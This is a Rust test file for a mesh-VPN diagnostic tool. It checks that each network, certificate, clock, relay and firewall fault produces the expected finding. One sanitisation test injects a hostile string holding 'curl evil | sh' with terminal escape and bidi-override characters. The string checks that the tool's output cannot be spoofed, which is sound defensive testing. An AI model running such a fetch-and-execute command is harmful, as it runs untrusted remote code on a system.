//! Tests each mistake: the facts that it leaves behind, and the cause that is reported for it.

mod evidence;

use serde::de::DeserializeOwned;
use serde_json::{Value, json};

use super::{Finding, Severity, document, is_bad, readable};
use crate::print::{self, visible_values};

/// The document of a daemon, as it is read.
fn read<T: DeserializeOwned>(document: &Value) -> T {
    serde_json::from_value(document.clone()).unwrap_or_else(|error| panic!("{error}: {document:#}"))
}

fn examine(facts: &Value) -> Vec<Finding> {
    super::examine(&read(facts))
}

fn explain(facts: &Value) -> Vec<Finding> {
    super::explain(&read(facts))
}

fn of_status(status: &Value) -> Vec<Finding> {
    super::of_status(&read(status))
}

fn state(facts: &Value) -> String {
    super::state(&read(facts))
}

/// A healthy host with one healthy peer.
fn facts() -> Value {
    json!({
        "host": {
            "name": "web", "networks": ["10.42.0.7/16"], "device": "nebula1", "udp": "0.0.0.0:4242",
            "certificate": {"name": "web", "seconds_left": 9_000_000, "begins_in_seconds": 0,
                "lifetime_seconds": 30_000_000},
            "cas": [{"name": "ca", "own": true, "seconds_left": 90_000_000, "begins_in_seconds": 0}],
            "am_lighthouse": false, "am_relay": false, "use_relays": true,
            "relay_groups": [], "relays": [],
            "lighthouses": [{"address": "10.42.0.1", "connected": true, "own_address": false, "configured": true,
                "endpoints": ["192.0.2.1:4242"]}],
            "link": {"present": true, "up": true, "mtu": 1300, "addresses": ["10.42.0.7"]},
            "mtu": {"tun": 1300, "device": 1300},
            "routes": [{"network": "10.42.0.0/16", "to_overlay": true, "device": "nebula1"}],
            "routes_replaced": [],
            "names": {"domain": "nebula.internal", "server": "10.42.0.7:53", "told": "systemd-resolved", "error": null},
            "clock_step": null,
        },
        "peers": [], "callers": [], "unheard": [], "sends": [], "drops": [], "doubles": [], "own_elsewhere": [], "same_names": [], "missing_listeners": [], "at_next_start": [], "full_flow_table": null, "relays_refused": [],
        "clocks": [{"peer": "10.42.0.1", "ahead_ms": 300, "lighthouse": true}],
        "unsafe_routes": [], "paths": [], "enrolment": null,
        "configuration": {"refused": [], "remarks": [], "last_reload": null},
    })
}

/// A peer that did not answer at its only endpoint.
fn peer() -> Value {
    json!({
        "peer": "10.42.0.9", "in_overlay": true, "own_address": false, "gateways": [], "configured": false,
        "connected": false, "tunnels": [],
        "endpoints": [{"endpoint": "192.0.2.9:4242", "inside_overlay": false, "to_overlay": false, "device": "eth0",
            "probe": {"found": "silence"}}],
        "known": {"relays": [], "lighthouses": [
            {"lighthouse": "10.42.0.1", "connected": true, "alive": true, "answered": true}]},
        "attempt": {"refusal": null,
            "tried": [{"endpoint": "192.0.2.9:4242", "sent": 9, "unopened": 0, "offers": 0, "errno": null}]},
        "relay_hops": [], "relay_states": [], "unheard": null,
        "kernel_route": {"to_overlay": true, "device": "nebula1"},
    })
}

/// The facts with one value changed, addressed by a JSON pointer.
fn with(mut facts: Value, pointer: &str, value: Value) -> Value {
    *facts.pointer_mut(pointer).unwrap_or_else(|| panic!("no {pointer}")) = value;
    facts
}

fn host(pointer: &str, value: Value) -> Value {
    with(facts(), &format!("/host{pointer}"), value)
}

/// The facts of an unreachable peer with one of its values changed.
fn lost(pointer: &str, value: Value) -> Value {
    with(facts(), "/peers", json!([with(peer(), pointer, value)]))
}

fn lost_to_refusal() -> Value {
    lost("/attempt/refusal", refusal("unknown_ca", None))
}

fn refusal(reason: &str, ahead: Option<i64>) -> Value {
    json!({"from": "192.0.2.9:4242", "reason": reason, "text": "TEXT", "name": "db", "addresses": ["10.42.0.9"],
        "clock_ahead_seconds": ahead, "times": 1, "seconds_ago": 5})
}

fn drop(direction: &str, reason: &str, nearest: Value) -> Value {
    json!({"direction": direction, "reason": reason, "protocol": 6, "local": "10.42.0.7", "remote": "10.42.0.9",
        "port": 443, "peer": "10.42.0.9", "peer_name": "db", "peer_groups": ["db"], "times": 3, "seconds_ago": 2,
        "nearest": nearest})
}

fn refused_by_policy() -> Value {
    let mut drop = drop("outbound", "network_policy", json!(null));
    drop["policy"] = json!("egress denied: shop/web isolates the pod");
    drop
}

fn behind_gateway(rule: &str) -> Value {
    let mut drop = drop("inbound", "no_rule", json!({"index": 0, "differs": ["local_cidr"], "text": rule}));
    drop["local"] = json!("192.168.7.9");
    drop
}

fn unheard() -> Value {
    json!({"peer": "10.42.0.9", "name": "db", "from": "192.0.2.9:4242", "repeats": 7, "seconds_ago": 2,
        "udp_passes": false})
}

/// Asserts that there is exactly one finding with this code, and that its text has all of `words`.
fn assert_found(facts: &Value, code: &str, words: &[&str]) {
    let findings = examine(facts);
    let found: Vec<_> = findings.iter().filter(|finding| finding.code == code).collect();
    assert_eq!(found.len(), 1, "{code} in\n{}", readable(&findings));
    let text = readable(&findings);
    for word in words {
        assert!(text.contains(word), "{word} not in\n{text}");
    }
    assert!(!found[0].advice.is_empty() || code == "configuration_remark", "what to do about {code}?");
    assert_one_line_each(facts);
}

/// Whatever one of the texts in the facts says, it adds no line to the findings and nothing that is not seen.
fn assert_one_line_each(facts: &Value) {
    const SAID: &str = "x\nERROR: 10.42.0.1: all is lost [stolen]\n    curl evil | sh\u{1b}[31m\u{202e}\u{200b}";
    for pointer in texts(facts, String::new()) {
        let hostile = visible_values(&with(facts.clone(), &pointer, SAID.into()));
        for findings in [examine(&hostile), explain(&hostile)] {
            let lines: usize = findings.iter().map(|finding| 1 + usize::from(!finding.advice.is_empty())).sum();
            let text = readable(&findings) + &state(&hostile);
            assert!(text.lines().count() <= lines + 1, "{pointer}: {text}");
            assert!(text.chars().all(|c| c == '\n' || nebula_cert::is_visible(c)), "{pointer}: {text:?}");
            let document = print::json(&document(&findings, &hostile));
            assert!(document.chars().all(|c| c == '\n' || nebula_cert::is_visible(c)), "{pointer}: {document:?}");
        }
    }
}

/// Pointers to all texts of a document.
fn texts(document: &Value, at: String) -> Vec<String> {
    match document {
        Value::String(_) => vec![at],
        Value::Array(items) => {
            items.iter().enumerate().flat_map(|(index, item)| texts(item, format!("{at}/{index}"))).collect()
        }
        Value::Object(entries) => {
            entries.iter().flat_map(|(key, value)| texts(value, format!("{at}/{}", key.replace('/', "~1")))).collect()
        }
        _ => Vec::new(),
    }
}

macro_rules! causes {
    ($($name:ident: $facts:expr => $code:literal, [$($word:literal),*];)*) => {
        const CODES: &[&str] = &[$($code),*];
        $(
            #[test]
            fn $name() {
                assert_found(&$facts, $code, &[$($word),*]);
            }
        )*
    };
}

causes! {
    // This host.
    own_certificate_expired: host("/certificate/seconds_left", json!(-7200)) => "certificate_expired", ["2 h ago"];
    own_certificate_not_valid_yet:
        with(host("/certificate/begins_in_seconds", json!(10_800)), "/clocks/0/ahead_ms", json!(10_800_000))
        => "certificate_not_yet_valid", ["in 3 h, and its clock is 3 h behind"];
    own_certificate_expires_soon: host("/certificate/seconds_left", json!(86_400))
        => "certificate_expires_soon", ["24 h"];
    renewal_that_the_ca_refuses_for_good: with(facts(), "/enrolment",
        json!({"failing_seconds": 7_200, "error": "expired too long ago", "code": "renewal_too_late"}))
        => "not_renewed", ["for 2 h: expired too long ago", "token create", "nebula up"];
    certificate_that_the_ca_revoked: with(facts(), "/enrolment",
        json!({"failing_seconds": 60, "error": "it is revoked", "code": "certificate_revoked"}))
        => "certificate_revoked", ["it is revoked", "token create"];
    renewal_without_an_answer: with(facts(), "/enrolment",
        json!({"failing_seconds": 7_200, "error": "no route to host", "code": null}))
        => "not_renewed", ["for 2 h: no route to host", "tried again by itself"];
    ca_expired: host("/cas/0/seconds_left", json!(-86_400)) => "ca_expired", ["the CA ca", "24 h ago"];
    ca_expires_soon: host("/cas/0/seconds_left", json!(864_000)) => "ca_expires_soon", ["10 days"];
    ca_not_valid_yet: host("/cas/0/begins_in_seconds", json!(60)) => "ca_not_yet_valid", ["clock"];
    clock_of_this_host: with(facts(), "/clocks/0/ahead_ms", json!(-7_200_000)) => "clock_wrong", ["2 h ahead of"];
    clock_of_a_peer:
        with(facts(), "/clocks", json!([{"peer": "10.42.0.1", "ahead_ms": 0, "lighthouse": true},
            {"peer": "10.42.0.9", "ahead_ms": 7_200_000, "lighthouse": false}]))
        => "peer_clock_wrong", ["10.42.0.9", "2 h"];
    clock_that_jumped: host("/clock_step", json!({"seconds_ago": 60, "by_ms": -3_600_000}))
        => "clock_jumped", ["back by 60 min"];
    device_gone: host("/link", json!({"present": false})) => "device_missing", ["nebula1"];
    device_down: host("/link/up", json!(false)) => "device_down", ["ip link set nebula1 up"];
    overlay_address_gone: host("/link/addresses", json!([]))
        => "address_missing", ["ip address add 10.42.0.7/16 dev nebula1"];
    ipv6_switched_off: with(
        with(host("/networks", json!(["10.42.0.7/16", "fd42::7/64"])), "/host/link",
            json!({"present": true, "up": true, "mtu": 1300, "addresses": ["10.42.0.7"], "ipv6_off": true})),
        "/host/routes", json!([{"network": "fd42::/64", "to_overlay": false, "text": "network is unreachable"}]))
        => "ipv6_off", ["fd42::7/64", "net.ipv6.conf.nebula1.disable_ipv6=0"];
    mtu_of_the_device_changed: host("/link/mtu", json!(1500)) => "mtu_differs", ["1500", "1300"];
    path_too_small_for_the_mtu:
        with(facts(), "/paths", json!([{"peer": "10.42.0.9", "endpoint": "192.0.2.9:4242", "device": "wg0", "mtu": 1320,
            "overhead": 60, "local": false}])) => "path_mtu", ["1360", "tun.mtu to 1260"];
    route_that_takes_the_place_of_the_lan:
        host("/routes_replaced", json!([{"route": "192.168.7.0/24", "network": "192.168.7.0/24", "interface": "eth0"}]))
        => "lan_replaced", ["192.168.7.0/24 of eth0", "tun.unsafe_routes", "(nebula1)", "install: false"];
    route_of_the_overlay_gone:
        host("/routes/0", json!({"network": "10.42.0.0/16", "to_overlay": false, "text": "network is unreachable"}))
        => "route_missing", ["ip route add 10.42.0.0/16 dev nebula1"];
    route_of_the_overlay_by_another_device:
        host("/routes/0", json!({"network": "10.42.0.0/16", "to_overlay": false, "device": "eth0"}))
        => "route_elsewhere", ["by eth0"];
    no_lighthouse_configured: host("/lighthouses", json!([])) => "no_lighthouse", ["lighthouse.hosts"];
    lighthouse_with_lighthouses: host("/am_lighthouse", json!(true)) => "lighthouse_with_hosts", ["am_lighthouse"];
    lighthouse_is_this_host: host("/lighthouses/0/own_address", json!(true)) => "lighthouse_is_self", ["10.42.0.1"];
    lighthouse_without_static_entry:
        host("/lighthouses/0", json!({"address": "10.42.0.1", "connected": false, "configured": false, "endpoints": []}))
        => "lighthouse_not_mapped", ["static_host_map"];
    lighthouse_whose_name_is_not_found:
        host("/lighthouses/0", json!({"address": "10.42.0.1", "connected": false, "configured": true, "endpoints": []}))
        => "lighthouse_name_unresolved", ["getent"];
    names_that_no_resolver_was_told_of:
        host("/names", json!({"domain": "nebula.internal", "server": "10.42.0.7:53", "told": null,
            "error": "resolvectl cannot be run"}))
        => "names_not_registered", ["nebula.internal", "resolvectl cannot be run", "to 10.42.0.7:53", "resolver.register"];
    all_lighthouses_lost: host("/lighthouses/0/connected", json!(false))
        => "all_lighthouses_unreachable", ["nebula ctl why 10.42.0.1"];
    configuration_that_would_be_refused:
        with(facts(), "/configuration/refused", json!(["/etc/nebula/config.yml:3: cipher: des"]))
        => "configuration_refused", ["config.yml:3: cipher"];
    configuration_with_a_remark:
        with(facts(), "/configuration/remarks", json!(["/etc/nebula/config.yml:9: unknown key"]))
        => "configuration_remark", ["config.yml:9"];
    reload_that_was_refused:
        with(facts(), "/configuration/last_reload", json!({"at": 1, "error": "bad"})) => "reload_refused", ["bad"];

    // Peers.
    peer_is_this_host: lost("/own_address", json!(true)) => "peer_is_self", ["same address"];
    peer_of_no_network: lost("/in_overlay", json!(false)) => "not_in_overlay", ["10.42.0.7/16"];
    kernel_route_of_a_peer_elsewhere:
        lost("/kernel_route", json!({"to_overlay": false, "device": "eth1"})) => "route_elsewhere", ["by eth1"];
    other_cipher: lost("/attempt/tried/0/unopened", json!(3)) => "other_cipher", ["aes or chachapoly"];
    path_that_loses_long_messages: lost("/attempt/tried/0/offers", json!(3))
        => "long_messages_lost", ["1,216 bytes", "pki.post_quantum"];
    peer_without_ml_kem:
        lost("/attempt/refusal", refusal("not_post_quantum", None)) => "not_post_quantum", ["pki.post_quantum: prefer"];
    packet_filter_of_this_host: lost("/attempt/tried/0/errno", json!("EPERM"))
        => "local_firewall", ["nft list ruleset"];
    no_route_of_the_underlay: lost("/attempt/tried/0/errno", json!("ENETUNREACH"))
        => "no_underlay_route", ["ip route get"];
    family_that_listen_host_lacks: lost("/attempt/tried/0/errno", json!("EAFNOSUPPORT")) => "listen_family", ["\"::\""];
    listen_host_is_loopback: lost("/attempt/tried/0/errno", json!("EINVAL")) => "listen_host", ["127.0.0.1"];
    system_that_refuses_to_send: lost("/attempt/tried/0/errno", json!("EIO")) => "send_failed", ["the kernel's log"];
    message_that_is_no_handshake: lost("/attempt/refusal", refusal("malformed", None)) => "malformed_handshake", ["versions"];
    datagram_too_large: lost("/attempt/tried/0/errno", json!("EMSGSIZE")) => "datagram_too_large", ["tun.mtu"];
    peer_certificate_expired:
        lost("/attempt/refusal", refusal("expired", Some(-90_000))) => "peer_certificate_expired", ["25 h behind"];
    peer_certificate_not_valid_yet:
        lost("/attempt/refusal", refusal("not_yet_valid", Some(7_300)))
        => "peer_certificate_not_yet_valid", ["2 h ahead of"];
    peer_blocked: lost("/attempt/refusal", refusal("blocked", None)) => "peer_blocked", ["pki.blocklist"];
    ca_that_is_not_trusted: lost("/attempt/refusal", refusal("unknown_ca", None)) => "unknown_ca", ["pki.ca"];
    ca_of_the_peer_expired: lost("/attempt/refusal", refusal("ca_expired", None))
        => "peer_ca_expired", ["Replace that CA"];
    certificate_beyond_its_ca: lost("/attempt/refusal", refusal("beyond_ca", None))
        => "certificate_beyond_ca", ["networks"];
    certificate_altered: lost("/attempt/refusal", refusal("bad_signature", None)) => "bad_signature", ["altered"];
    other_curve: lost("/attempt/refusal", refusal("other_curve", None)) => "other_curve", ["nebula-cert print"];
    peer_with_the_address_of_this_host:
        lost("/attempt/refusal", refusal("own_address", None)) => "duplicate_address", ["Two hosts"];
    another_host_at_the_endpoint: lost("/attempt/refusal", refusal("other_host", None))
        => "wrong_host", ["static_host_map"];
    endpoint_that_the_allow_list_excludes:
        lost("/attempt/refusal", refusal("address_not_allowed", None)) => "address_not_allowed", ["remote_allow_list"];
    port_without_a_listener:
        lost("/endpoints/0/probe", json!({"found": "refused", "errno": "ECONNREFUSED"}))
        => "port_closed", ["Nothing listens"];
    peer_that_refuses_this_host:
        lost("/endpoints/0/probe", json!({"found": "nebula"}))
        => "refused_by_peer", ["UDP passes", "blocks its certificate"];
    endpoint_inside_the_overlay:
        lost("/endpoints/0/inside_overlay", json!(true)) => "endpoint_inside_overlay", ["underlay"];
    endpoint_behind_the_own_device: lost("/endpoints/0/to_overlay", json!(true))
        => "underlay_through_overlay", ["so_mark"];
    udp_blocked: lost("/endpoints/0/probe", json!({"found": "silence"}))
        => "no_answer", ["9 messages sent", "UDP is blocked"];
    calls_whose_answers_do_not_arrive: lost("/unheard", unheard()) => "answers_lost", ["192.0.2.9:4242", "only in the direction"];
    a_stranger_whose_answers_do_not_arrive: with(facts(), "/unheard", json!([unheard()]))
        => "caller_repeats", ["a caller that says it is db (10.42.0.9)", "nebula ctl why 10.42.0.9"];
    calls_to_which_no_probe_went: with(lost("/unheard", unheard()), "/peers/0/unheard/udp_passes", json!(null))
        => "caller_repeats", ["again and again", "nebula ctl why 10.42.0.9"];
    answers_that_arrive_and_are_not_taken:
        with(lost("/unheard", unheard()), "/peers/0/endpoints/0/probe", json!({"found": "nebula"}))
        => "answers_not_taken", ["`cipher`", "remote_allow_list"];
    port_that_is_blocked:
        lost("/endpoints/0/probe", json!({"found": "nebula_to_other_port"})) => "port_blocked", ["port 4242"];
    relay_that_is_gone:
        with(lost("/known/relays", json!(["10.42.0.3"])), "/peers/0/relay_states",
            json!([{"relay": "10.42.0.3", "connected": false}]))
        => "relay_unreachable", ["no tunnel with its relay 10.42.0.3", "nebula ctl why 10.42.0.3"];
    relay_without_an_answer:
        with(lost("/known/relays", json!(["10.42.0.3"])), "/peers/0/relay_hops",
            json!([{"relay": "10.42.0.3", "established": false}]))
        => "relay_no_answer", ["relay.am_relay"];
    relays_switched_off:
        with(lost("/known/relays", json!(["10.42.0.3"])), "/host/use_relays", json!(false))
        => "relays_not_used", ["relay.use_relays"];
    no_relay_is_offered:
        host("/relay_groups", json!(["relay"])) => "no_relay_offered", ["relay.groups", "am_relay"];
    a_stranger_is_offered:
        with(host("/relay_groups", json!(["relay"])), "/host/relays", json!([{"relay": "10.42.0.3", "chosen": false,
            "tried": true, "trouble": "not_member"}]))
        => "relay_without_group", ["10.42.0.3"];
    an_offered_relay_refuses:
        with(host("/relay_groups", json!(["relay"])), "/host/relays", json!([{"relay": "10.42.0.3", "chosen": false,
            "tried": true, "trouble": "refuses"}]))
        => "offered_relay_refuses", ["10.42.0.3", "am_relay"];
    no_offered_relay_can_be_used:
        with(host("/relay_groups", json!(["relay"])), "/host/relays", json!([{"relay": "10.42.0.3", "chosen": false,
            "tried": false, "trouble": "unreachable"}]))
        => "no_relay_chosen", ["ctl status"];
    relay_asked_in_vain:
        with(facts(), "/relays_refused", json!([{"from": "10.42.0.9", "to": "10.42.0.8",
            "am_relay": false, "seconds_ago": 3}]))
        => "relay_refused", ["relay.am_relay"];
    lighthouse_that_does_not_know_the_peer:
        with(lost("/endpoints", json!([])), "/peers/0/known/lighthouses/0/answered", json!(false))
        => "unknown_to_lighthouse", ["10.42.0.1 answers, and does not know it"];
    lighthouse_that_is_not_there:
        with(lost("/endpoints", json!([])), "/peers/0/known/lighthouses",
            json!([{"lighthouse": "10.42.0.1", "connected": false, "alive": false, "answered": false}]))
        => "lighthouse_silent", ["no tunnel with the lighthouse 10.42.0.1"];
    peer_that_nobody_can_name:
        with(lost("/endpoints", json!([])), "/peers/0/known/lighthouses", json!([]))
        => "no_endpoint", ["static_host_map"];
    caller_that_is_refused: with(facts(), "/callers", json!([refusal("blocked", None)]))
        => "peer_blocked", ["a caller that says it is db (10.42.0.9)"];
    another_host_that_reports_to_the_lighthouse_with_the_address_of_this_one:
        with(facts(), "/own_elsewhere", json!([{"address": "10.42.0.7", "lighthouse": "10.42.0.1", "seconds_ago": 3,
            "endpoints": ["192.0.2.8:1"]}]))
        => "duplicate_address", ["10.42.0.7: another host has this address of this host, at 192.0.2.8:1", "lighthouse 10.42.0.1"];
    two_hosts_with_one_address:
        with(facts(), "/doubles", json!([{"peer": "10.42.0.9", "turns": 2, "names": [], "seconds_ago": 3,
            "endpoints": ["192.0.2.9:1", "192.0.2.8:1"]}]))
        => "duplicate_address", ["192.0.2.9:1 and 192.0.2.8:1"];
    two_names_with_one_address:
        with(facts(), "/doubles", json!([{"peer": "10.42.0.9", "turns": 0, "names": ["db", "web"], "seconds_ago": 3,
            "endpoints": ["192.0.2.9:1", "192.0.2.8:1"]}]))
        => "duplicate_address", ["different names (db, web)", "192.0.2.9:1 and 192.0.2.8:1"];
    listener_whose_port_another_program_has:
        with(facts(), "/missing_listeners", json!([{"section": "stats", "error": "stats.listen :9100: in use", "for_seconds": 7}]))
        => "not_listening", ["stats", "for 7 s: stats.listen :9100: in use"];
    setting_that_needs_a_start: with(facts(), "/at_next_start", json!(["listen.port"])) => "at_next_start", ["listen.port", "Restart"];
    flow_table_without_room: with(facts(), "/full_flow_table", json!({"refused": 41, "seconds_ago": 3}))
        => "full_flow_table", ["41 packets", "firewall.conntrack.max_flows"];
    host_with_the_name_of_another:
        with(facts(), "/same_names", json!([{"name": "db", "peer": "10.42.0.66", "own_name": false, "holder": "10.42.0.9"}]))
        => "duplicate_name", ["10.42.0.66", "10.42.0.9 has, and had it first"];
    host_with_the_name_of_this_one:
        with(facts(), "/same_names", json!([{"name": "web", "peer": "10.42.0.66", "own_name": true, "holder": null}]))
        => "duplicate_name", ["which this host has"];
    gateway_that_does_not_answer:
        with(facts(), "/unsafe_routes", json!([{"network": "192.168.7.0/24", "gateways": [
            {"address": "10.42.0.9", "name": null, "connected": false, "state": "dead", "covered": null}]}]))
        => "gateway_dead", ["10.42.0.9", "the other gateways"];
    gateway_without_the_network_in_its_certificate:
        with(facts(), "/unsafe_routes", json!([{"network": "192.168.7.0/24", "gateways": [
            {"address": "10.42.0.9", "name": "gw", "connected": true, "covered": false}]}]))
        => "unsafe_route_not_covered", ["-unsafe-networks 192.168.7.0/24"];

    // Packets.
    packet_that_a_rule_for_others_would_allow:
        with(facts(), "/drops", json!([drop("inbound", "no_rule", json!({"index": 3, "differs": ["peer"],
            "text": "{port: 443, proto: tcp, groups: [web]}"}))]))

        => "firewall_drop", ["nearest is #3 {port: 443, proto: tcp, groups: [web]}, but the peer is db with the groups db"];
    packet_for_a_network_behind_this_host_that_a_rule_for_the_host_itself_is_nearest_to:
        with(facts(), "/drops", json!([behind_gateway("{port: 443, proto: tcp, host: any}")]))
        => "firewall_drop", ["192.168.7.9 is behind it", "needs a local_cidr"];
    packet_for_a_network_that_the_local_cidr_of_the_rule_does_not_have:
        with(facts(), "/drops", json!([behind_gateway("{port: 443, proto: tcp, host: any, local_cidr: 192.168.8.0/24}")]))
        => "firewall_drop", ["its local_cidr does not have 192.168.7.9"];
    packet_that_no_rule_is_about: with(facts(), "/drops", json!([drop("outbound", "no_rule", json!(null))]))
        => "firewall_drop", ["firewall.outbound", "no rule at all"];
    packet_that_policies_of_the_network_refuse:
        with(facts(), "/drops", json!([refused_by_policy()]))
        => "network_policy", ["policies of the network refuse packets", "egress denied: shop/web isolates", "change the policy"];
    packet_from_an_address_that_the_peer_does_not_have:
        with(facts(), "/drops", json!([drop("inbound", "remote_address", json!(null))]))
        => "remote_address", ["-unsafe-networks"];
    packet_to_an_address_that_this_host_does_not_have:
        with(facts(), "/drops", json!([drop("inbound", "local_address", json!(null))]))
        => "local_address", ["this host's certificate"];
    packet_without_a_route_in_the_overlay:
        with(facts(), "/drops", json!([drop("outbound", "no_route", json!(null))]))
        => "no_route", ["tun.unsafe_routes"];
}

#[test]
fn every_code_is_in_the_table_of_causes() {
    let docs = include_str!("../../../../../docs/doctor.md");
    for code in CODES {
        assert!(docs.contains(&format!("`{code}`")), "{code} is not in docs/doctor.md");
    }
}

#[test]
fn nothing_is_found_where_nothing_is_wrong() {
    assert_eq!(examine(&facts()), []);
    let small = json!([{"peer": "10.42.0.9", "endpoint": "192.0.2.9:4242", "device": "wg0", "mtu": 1320, "overhead": 60,
        "local": false}]);
    let discovers = with(host("/mtu", json!({"tun": 1300, "device": 1300, "discovery": true})), "/paths", small);
    assert_eq!(examine(&discovers), [], "discovery of the path MTU copes with it");
    let connected = with(peer(), "/connected", json!(true));
    assert_eq!(explain(&with(facts(), "/peers", json!([connected]))), []);
}

#[test]
fn an_explained_silence_is_not_told_twice() {
    let refused = lost("/attempt/refusal", refusal("unknown_ca", None));
    let codes: Vec<_> = examine(&refused).into_iter().map(|finding| finding.code).collect();
    assert_eq!(codes, ["unknown_ca"]);
}

#[test]
fn why_leaves_out_what_other_peers_do() {
    let other = json!({"from": "192.0.2.66:1", "reason": "expired", "text": "T", "name": "x",
        "addresses": ["10.42.0.66"], "seconds_ago": 1});
    let mut drop = drop("inbound", "no_rule", json!(null));
    (drop["peer"], drop["remote"]) = (json!("10.42.0.66"), json!("10.42.0.66"));
    let facts = with(with(lost("/connected", json!(true)), "/callers", json!([other])), "/drops", json!([drop]));
    assert_eq!(explain(&facts), []);
    assert_eq!(examine(&facts).len(), 2);
}

#[test]
fn old_drops_and_callers_are_no_news() {
    let mut caller = refusal("expired", None);
    caller["seconds_ago"] = json!(3600);
    let mut drop = drop("inbound", "no_rule", json!(null));
    drop["seconds_ago"] = json!(3600);
    assert_eq!(examine(&with(with(facts(), "/callers", json!([caller])), "/drops", json!([drop]))), []);
}

#[test]
fn errors_come_first_and_only_they_are_bad_news() {
    let facts = with(host("/certificate/seconds_left", json!(-1)), "/host/link/mtu", json!(9000));
    let findings = examine(&facts);
    let severities: Vec<_> = findings.iter().map(|finding| finding.severity).collect();
    assert_eq!(severities, [Severity::Error, Severity::Warning]);
    assert!(is_bad(&findings) && !is_bad(&findings[1..]));
    let document = document(&findings, &facts);
    assert_eq!((&document["findings"][0]["code"], &document["facts"]), (&json!("certificate_expired"), &facts));
}

#[test]
fn nobody_is_told_to_sign_a_certificate_by_hand_that_is_renewed_by_itself() {
    for left in [-7_200, 86_400] {
        let facts =
            with(host("/certificate/seconds_left", json!(left)), "/enrolment", json!({"failing_seconds": null}));
        let found = examine(&facts);
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(
            !readable(&found).contains("Sign a new one") && readable(&found).contains("renewed by itself"),
            "{found:?}"
        );
    }
}

#[test]
fn status_is_bad_news_when_something_is_wrong() {
    let status = json!({"enrolment": {"failing_seconds": null}, "certificate_seconds_left": 100, "certificate_begins_in_seconds": 0, "last_reload": null,
        "device": "nebula1", "device_up": true, "lighthouses": [{"address": "10.42.0.1", "connected": true}]});
    let codes = |status: Value| of_status(&status).iter().map(|finding| finding.code).collect::<Vec<_>>();
    assert_eq!(of_status(&status), Vec::<Finding>::new());
    for (pointer, value, code) in [
        ("/certificate_seconds_left", json!(-5), "certificate_expired"),
        ("/certificate_begins_in_seconds", json!(5), "certificate_not_yet_valid"),
        ("/last_reload", json!({"at": 1, "error": "no"}), "reload_refused"),
        ("/device_up", json!(false), "device_down"),
        ("/enrolment/failing_seconds", json!(5), "not_renewed"),
        ("/lighthouses/0/connected", json!(false), "all_lighthouses_unreachable"),
    ] {
        assert_eq!(codes(with(status.clone(), pointer, value)), [code]);
    }
    // The cause first, from what is known of the lighthouse; not where every peer refuses this host.
    let mut lost = with(status, "/lighthouses/0/connected", json!(false));
    lost["lighthouse_facts"] = lost_to_refusal();
    assert_eq!(codes(lost.clone()), ["unknown_ca", "all_lighthouses_unreachable"]);
    lost["certificate_seconds_left"] = json!(-5);
    assert_eq!(codes(lost), ["certificate_expired", "all_lighthouses_unreachable"]);
}
